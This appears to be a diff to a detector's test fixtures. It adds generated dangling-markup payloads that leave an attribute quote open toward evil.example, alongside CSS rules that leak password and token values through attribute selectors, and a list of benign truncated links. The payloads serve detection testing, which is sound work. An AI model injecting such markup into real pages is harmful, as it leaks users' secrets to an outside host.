@@ -80,6 +80,13 @@ CSS_FETCH = [f'<{tag} {pre}style={q}{prop}:{fn}({src}){q}>x'
                  [("background-image", "url"), ("content", "url"),
                   ("background", "image-set"), ("list-style", "url")],
                  ["//evil.example/t", "test5.svg"])]
+# dangling markup: a fetched URL's quote left open to another host
+DANGLING = [f'{pre}<{tag} {attr}={q}{url}'
+            for pre, (tag, attr), q, url in itertools.product(
+                ["", '">', "x'>"],
+                [("img", "src"), ("IMG", "SRC"), ("table", "background"), ("video", "poster"),
+                 ("object", "data"), ("img", "srcset")],
+                ["'", '"'], ["//evil.example/?", "https://evil.example/log?t="])]
 CSS_FETCH += [f'{sel}{{background:url(//evil.example/{c})}}'
               for sel, c in [('input[value^="a"]', "a"), ("input[name=pw][value$=z]", "z"),
                              ("[data-token *= '7']", "7")]]
@@ -112,6 +119,7 @@ XSS_CLASSES = {
     "namespaced": NAMESPACED,
     "css": CSS,
     "css-fetch": CSS_FETCH,
+    "dangling": DANGLING,
     "data-binding": DATA_BINDING,
     "tagless": TAGLESS,
 }
@@ -223,6 +231,10 @@ LINKER = ["In function `main': undefined reference to `foo'",
 SHEETS = ["=SUM(A1:A3)", '=HYPERLINK("https://example.com","site")', '=IF(A1>0,"yes","no")',
           '=IMPORTXML("https://example.com/feed.xml","//item")', "+44 20 7946 0958",
           "- item | 'quoted' ! wow", "a | b 'c' ! d", "=A1&B1", "@channel | 'deploy' done!"]
+# links cut short, closed fetched URLs
+CUT_SHORT = ['<a href="https://example.com/docs', '<a href="//example.com/?x=',
+             '<img src="a.png"> text', 'Use <img src="//cdn.example.com/a.png"> in it',
+             "<img src='/static/logo.png"]
 # template syntax named or held in text, computing nothing
 TEMPLATE_TEXT = ["Use {$name} in Smarty templates", "the smarty.version variable",
                  "<#1> and <#2> are ticket refs", "rating <# 5 #>", "<#= DateTime.Now #>",
@@ -261,7 +273,8 @@ URLS = ["https://github.com/nodejs/node/blob/main/lib/child_process.js",
         "https://example.com/docs/templates#{{name}}"]
 
 BENIGN_CLASSES = {"markdown": MARKDOWN, "styles": STYLES, "linker": LINKER,
-                  "template-text": TEMPLATE_TEXT, "sheets": SHEETS, "types": TYPES, "placeholders": PLACEHOLDERS,
+                  "template-text": TEMPLATE_TEXT, "sheets": SHEETS,
+                  "cut-short": CUT_SHORT, "types": TYPES, "placeholders": PLACEHOLDERS,
                   "code": CODE, "urls": URLS}
 
 
